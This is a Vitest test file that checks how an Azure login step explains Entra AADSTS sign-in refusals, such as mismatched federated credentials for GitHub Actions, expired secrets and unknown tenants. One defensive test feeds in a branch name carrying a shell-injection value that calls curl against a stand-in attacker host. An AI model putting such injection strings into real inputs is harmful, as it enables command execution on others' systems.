import { describe, expect, test } from 'vitest';
import {
  CLIENT,
  CONTEXT,
  entraSaid,
  explainResponse,
  firstLine,
  TENANT,
  UNKNOWN_CONTEXT,
} from '../../../support/explain.ts';

const SUPPORT =
  'Trace ID 8335980a-8604-4005-a5e1-f678003d5b01, correlation ID c3a1f4bb-2b8a-4486-ac4a-fdd45ed43116 for support.';

function withSubject(subject: string) {
  const assertion = { ...CONTEXT.assertion!, subject };
  return { ...CONTEXT, assertion };
}

describe('a sign-in for which no federated credential matches', () => {
  test('the message shows what to paste, and the command that does it', () => {
    expect(entraSaid(700213)).toBe(
      [
        `Entra refused the sign-in of application '${CLIENT}' (AADSTS700213): no federated credential matches the ID token that was presented.`,
        'The ID token says:',
        "  issuer: 'https://token.actions.githubusercontent.com'",
        "  subject: 'repo:octo/churn:ref:refs/heads/main'",
        "  audience: 'api://AzureADTokenExchange'",
        'A federated credential must hold all three letter by letter, upper and lower case included.',
        'To add it:',
        `  az ad app federated-credential create --id ${CLIENT} --parameters '{"name":"github-ref-refs-heads-main","issuer":"https://token.actions.githubusercontent.com","subject":"repo:octo/churn:ref:refs/heads/main","audiences":["api://AzureADTokenExchange"]}'`,
        'A user-assigned managed identity takes the same values with: az identity federated-credential create.',
        "The job names no environment, so its subject names the branch 'main'. Every branch needs a credential of its own; a job with 'environment:' has one subject for all branches.",
        'A credential whose subject holds the IDs of owner and repository (repo:owner@1/name@2:…) does not match.',
        SUPPORT,
      ].join('\n'),
    );
  });

  test.each([
    ['repo:o/r:environment:production', "The job names the environment 'production'"],
    ['repo:o/r:pull_request', "its subject ends in ':pull_request'"],
    ['repo:o/r:ref:refs/tags/v1', "The job runs for the tag 'v1'"],
    ['repo:o/r:job_workflow_ref:o/w/.github/workflows/x.yml@main', 'subject template of its own'],
    ['repo:o@1/r@2:environment:production', 'a credential without them does not match'],
  ])('the message explains the subject %s', (subject, told) => {
    expect(entraSaid(700213, withSubject(subject))).toContain(told);
  });

  test('issuer and subject come from the refusal when the step does not know the ID token', () => {
    const message = entraSaid(70021, UNKNOWN_CONTEXT);
    expect(message).toContain("  subject: 'repo:fbomb111/parallel:ref:refs/heads/main'");
    expect(message).toContain("  issuer: 'https://token.actions.githubusercontent.com/'");
    expect(message).toContain('--id <client-id> ');
    expect(entraSaid(700213, UNKNOWN_CONTEXT)).not.toContain('az ad app');
  });

  test('no command is offered for a branch whose name a shell would obey', () => {
    const message = entraSaid(700213, withSubject("repo:o/r:ref:refs/heads/x'$(curl$IFS-evil.example)"));
    expect(message).not.toContain('az ad app');
    expect(message).toContain('add the credential in the Azure portal');
  });

  test.each([
    [7002138, 'upper and lower case only'],
    [700211, "none of its federated credentials has the ID token's issuer"],
    [700212, "none of its federated credentials has the ID token's audience"],
  ])('the first line for AADSTS%i says what does not match', (code, reason) => {
    expect(firstLine(entraSaid(code))).toContain(reason);
  });
});

describe('a refusal of Entra', () => {
  test.each([
    [
      700016,
      `tenant '${TENANT}' has no application with client ID '${CLIENT}'.`,
      "'client-id' and 'tenant-id'",
    ],
    [
      700024,
      'the ID token is not valid at this time.',
      'Seen: Current time: 2024-10-02T22:05:03.6755165Z, assertion valid from 1970-01-01T00:00:00.0000000Z, expiry time of assertion 2024-10-02T21:30:53.0000000Z.',
    ],
    [7000215, `the client secret of application '${CLIENT}' is wrong.`, "the secret's value, not its ID"],
    [7000222, `the client secret of application '${CLIENT}' has expired.`, 'use login: oidc'],
    [90002, `the cloud 'AzureCloud' has no tenant '${TENANT}'.`, "'tenant-id' and 'cloud'"],
    [900023, `the cloud 'AzureCloud' has no tenant '${TENANT}'.`, "'tenant-id'"],
    [53003, `a Conditional Access policy blocks application '${CLIENT}'.`, 'GitHub-hosted runners'],
    [
      500011,
      `tenant '${TENANT}' has no service 'https://xxx.azure-devices-provisioning.net'.`,
      "'cloud' (now 'AzureCloud')",
    ],
  ])('AADSTS%i is explained with its reason, advice and the IDs for support', (code, reason, advice) => {
    const message = entraSaid(code);
    expect(firstLine(message)).toBe(`Entra refused the sign-in (AADSTS${code}): ${reason}`);
    expect(message).toContain(advice);
    expect(message.endsWith(SUPPORT)).toBe(true);
    expect(message).not.toContain('Timestamp');
  });

  test('the tenant comes from the refusal when no input names it', () => {
    expect(firstLine(entraSaid(900023, UNKNOWN_CONTEXT))).toContain("has no tenant 'authorize'");
  });

  test('a stale token file is told apart from a wrong clock', () => {
    expect(entraSaid(700024, { ...CONTEXT, signInMethod: 'workload-identity' })).toContain(
      'AZURE_FEDERATED_TOKEN_FILE',
    );
  });

  test('a code without a row is quoted, with a link to its explanation', () => {
    expect(entraSaid(50107)).toBe(
      [
        "Entra refused the sign-in (AADSTS50107): Requested federation realm object 'https://sts.windows.net/xxxxxxxxxxxxxx' does not exist.",
        'https://login.microsoftonline.com/error?code=50107 explains the code.',
        SUPPORT,
      ].join('\n'),
    );
  });

  test('a refusal without a code is quoted', () => {
    expect(firstLine(explainResponse('sign-in', 503, 'Service Unavailable'))).toBe(
      'Entra (login.microsoftonline.com) answered the sign-in with HTTP 503: Service Unavailable',
    );
  });

  test.each([700016, 700024, 700213, 70021, 700212, 7000215, 7000222, 90002, 900023, 53003, 500011, 50107])(
    'the message for AADSTS%i has no gaps when nothing is known',
    (code) => {
      expect(entraSaid(code, UNKNOWN_CONTEXT)).not.toMatch(/undefined|''| {2}\./);
    },
  );
});
